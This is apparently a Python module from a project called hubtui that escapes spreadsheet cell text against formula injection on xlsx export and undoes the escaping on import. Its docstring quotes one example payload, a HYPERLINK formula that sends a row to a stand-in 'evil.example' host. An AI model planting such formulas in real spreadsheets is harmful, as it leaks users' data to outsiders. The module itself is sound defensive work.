"""Text going into a spreadsheet cell: never a formula, always something the file can hold.

A spreadsheet reads a cell whose text starts with ``=`` (and, in Excel, LibreOffice and
Google Sheets alike, ``+``, ``-`` or ``@``) as a formula: a customer called
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would send the row to a stranger, and a
leading tab or carriage return hides the same thing from a quick look. Full-width forms
(＝ ＋ － ＠) count too: an input method turns them into the ASCII ones. A written xlsx cell
holds a string as a string (hubtui writes inline strings, never a ``<f>`` formula element),
but the danger comes back as soon as someone presses F2 and enter in the cell, or saves the
sheet as CSV and opens that: so such text is also *guarded*.

The rule (``safe_cell`` writes it, ``strip_guard`` undoes it; the import calls strip_guard)
-------------------------------------------------------------------------------------------
Let *rest* be the text without its leading apostrophes (``'``). The text **needs a guard**
when *rest* starts with one of ``= + - @``, a tab, a carriage return, ``＝ ＋ － ＠``, or
with an OOXML character escape ``_xHHHH_`` (four hex digits; Excel decodes it into any
character, ``_x003D_`` into ``=``).

- ``safe_cell(text)``: one apostrophe in front when the text needs a guard; otherwise the
  text as it is.
- ``strip_guard(text)``: when the text starts with an apostrophe and what follows that one
  apostrophe needs a guard, that apostrophe is removed; otherwise the text as it is.

So ``=1+1`` is written ``'=1+1``, ``'=1+1`` (already guarded by someone) is written
``''=1+1``, and ``'Tis`` and ``O'Brien`` are written as they are; ``strip_guard`` gives back
exactly what was guarded (``strip_guard(safe_cell(t)) == t`` for every text the file can
hold), and leaves every other text alone, an apostrophe-led one from another system included.
A spreadsheet shows the apostrophe (it is part of the value, so a CSV saved from the sheet
keeps it, and is still safe).

What an xlsx file cannot hold
-----------------------------
XML 1.0 has no way to write the C0 controls other than tab, line feed and carriage return,
U+FFFE, U+FFFF or a lone surrogate: ``safe_cell`` writes each as U+FFFD (the mark hubtui
shows them as everywhere else); that is the one change an export makes to stored text. (A
carriage return inside a text comes back as a line feed: XML reads line ends that way.)
"""

from __future__ import annotations

import re

from hubtui.domain.text import REPLACEMENT

GUARD = "'"
# What a spreadsheet takes as the start of a formula, as the first character of a cell.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# An OOXML escape of a character (ST_Xstring): Excel shows `_x003D_` as `=`.
_OOXML_ESCAPE = re.compile(r"_x[0-9A-Fa-f]{4}_")
# Characters XML 1.0 cannot carry.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
# First characters that may need a closer look; anything else is written as it is.
_LOOK_CLOSER = FORMULA_STARTS | {GUARD, "_"}


def needs_guard(text: str) -> bool:
    """Whether a spreadsheet could read `text` (past any leading apostrophes) as a formula."""
    rest = text.lstrip(GUARD)
    if not rest:
        return False
    return rest[0] in FORMULA_STARTS or (rest[0] == "_" and _OOXML_ESCAPE.match(rest) is not None)


def safe_cell(text: str) -> str:
    """`text` as an xlsx cell must hold it: never read as a formula (see the module's rule),
    and with each character XML cannot carry written as U+FFFD."""
    if _NOT_IN_XML.search(text):
        text = _NOT_IN_XML.sub(REPLACEMENT, text)
    if text and text[0] in _LOOK_CLOSER and needs_guard(text):
        return GUARD + text
    return text


def strip_guard(text: str) -> str:
    """The text `safe_cell` was given, from what it wrote (for the import): one leading
    apostrophe comes off when what follows it needs a guard; any other text is left alone."""
    if text.startswith(GUARD) and needs_guard(text[1:]):
        return text[1:]
    return text


__all__ = ["FORMULA_STARTS", "GUARD", "needs_guard", "safe_cell", "strip_guard"]
